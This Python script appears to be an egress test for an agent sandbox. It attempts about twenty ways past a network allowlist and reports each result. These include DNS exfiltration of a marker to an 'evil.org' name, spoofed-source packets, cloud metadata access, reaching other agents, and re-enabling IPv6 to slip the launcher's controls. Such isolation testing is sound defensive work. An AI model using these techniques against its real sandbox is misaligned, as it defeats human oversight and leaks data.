"""Attempts to reach what the manifest grants and what it does not. Each ends with a word, told at once."""

import json
import signal
import socket
import struct
import time

WEB, OTHER, RESOLVER = "45.33.32.10", "45.33.32.11", "45.33.32.53"
UPLINK = "100.127.0.1"
METADATA = "169.254.169.254"
SECRET = b"NULLBOX-SECRET"
PATIENCE = 3.0


def words(error):
    return {101: "unreachable", 111: "refused", 113: "refused", 13: "refused", 1: "not permitted"}.get(
        error.errno, f"{type(error).__name__} {error.errno}"
    )


def tcp(address, port):
    with socket.socket() as flow:
        flow.settimeout(PATIENCE)
        try:
            flow.connect((address, port))
            return "open" if flow.recv(16) else "closed"
        except TimeoutError:
            return "silent"
        except OSError as error:
            return words(error)


def udp(address, port, data=SECRET):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as link:
        link.settimeout(PATIENCE)
        try:
            link.connect((address, port))
            link.send(data)
            return "open" if link.recv(512) else "closed"
        except TimeoutError:
            return "silent"
        except OSError as error:
            return words(error)


def name(host, port=443):
    """Resolve as programs do, then connect."""
    try:
        found = socket.getaddrinfo(host, port, type=socket.SOCK_STREAM)
    except socket.gaierror:
        return "no address"
    return tcp(found[0][4][0], port)


def question(host):
    labels = b"".join(bytes([len(label)]) + label.encode() for label in host.split("."))
    return struct.pack("!HHHHHH", 7, 0x0100, 1, 0, 0, 0) + labels + b"\0" + struct.pack("!HH", 1, 1)


def ping(address):
    """An echo request with a message in it (RFC 792)."""
    head = struct.pack("!BBHHH", 8, 0, 0, 1, 1)
    data = head + SECRET
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    total = (total & 0xFFFF) + (total >> 16)
    data = head[:2] + struct.pack("!H", ~total & 0xFFFF) + head[4:] + SECRET
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP) as link:
        link.settimeout(PATIENCE)
        try:
            link.sendto(data, (address, 0))
            while True:
                packet, (sender, _) = link.recvfrom(2048)
                kind = packet[(packet[0] & 15) * 4]
                if kind == 0 and sender == address:
                    return "open"
                if kind == 3:
                    return "refused"
        except TimeoutError:
            return "silent"
        except OSError as error:
            return words(error)


def ipv6():
    """Switch IPv6 on, which the launcher has switched off, and speak to all nodes of the link."""
    for name in ("all", "eth0"):
        with open(f"/proc/sys/net/ipv6/conf/{name}/disable_ipv6", "w") as file:
            file.write("0")
    with socket.socket(socket.AF_INET6, socket.SOCK_DGRAM) as link:
        for _ in range(100):  # the address is looked after for a moment before it may be used (RFC 4862, 5.4)
            try:
                link.sendto(SECRET, ("ff02::1", 5353, 0, socket.if_nametoindex("eth0")))
                return "sent"
            except OSError as error:
                verdict = words(error)
                time.sleep(0.1)
    return verdict


def spoofed():
    """A datagram that says it comes from outside (RFC 791)."""
    content = struct.pack("!HHHH", 40000, 53, 8 + len(SECRET), 0) + SECRET
    addresses = socket.inet_aton(OTHER) + socket.inet_aton(WEB)
    head = struct.pack("!BBHHHBBH", 0x45, 0, 20 + len(content), 1, 0, 64, 17, 0)
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as link:
        try:
            link.sendto(head + addresses + content, (WEB, 0))
            return "sent"
        except OSError as error:
            return words(error)


def main():
    with open("/etc/resolv.conf") as file:
        gateway = file.read().split()[1]
    links = [(f"10.90.0.{4 * slot + 1}", f"10.90.0.{4 * slot + 2}") for slot in range(3)]
    others = [guest for resolver, guest in links if resolver != gateway]
    resolvers = [resolver for resolver, _ in links if resolver != gateway]
    attempts = {
        "address literal": lambda: tcp(OTHER, 443),
        "granted address before its name": lambda: tcp(WEB, 443),
        "allowed name": lambda: name("web.example.com"),
        "allowed name on another port": lambda: tcp(WEB, 8443),
        "name under the wildcard": lambda: name("a.wild.example.com"),
        "two labels under the wildcard": lambda: name("b.a.wild.example.com"),
        "the wildcard's own name": lambda: name("wild.example.com"),
        "unlisted name": lambda: name("nullbox-secret.evil.org"),
        "rebinding": lambda: name("rebind.example.com", 80),
        "dns to another server": lambda: udp(RESOLVER, 53, question("nullbox-secret.evil.org")),
        "dns over tcp to another server": lambda: tcp(RESOLVER, 53),
        "dns over tls": lambda: tcp(RESOLVER, 853),
        "multicast dns": lambda: udp(RESOLVER, 5353),
        "icmp": lambda: ping(WEB),
        "quic": lambda: udp(WEB, 443),
        "another agent": lambda: "/".join(sorted({tcp(other, 80) for other in others})),
        "another agent's resolver": lambda: udp(resolvers[0], 53, question("web.example.com")),
        "host port": lambda: tcp(gateway, 22),
        "the host's outer address": lambda: tcp(UPLINK, 22),
        "metadata": lambda: tcp(METADATA, 80),
        "calls beyond the budget": lambda: "/".join(tcp(WEB, 443) for _ in range(3)),
        "spoofed source": spoofed,
        "ipv6": ipv6,
    }
    for what, attempt in attempts.items():
        try:
            verdict = attempt()
        except Exception as error:
            verdict = f"{type(error).__name__}: {error}"
        print("prober: " + json.dumps({what: verdict}), flush=True)
    print("prober: done", flush=True)
    signal.pause()  # the link stays, for the operator to look at


main()
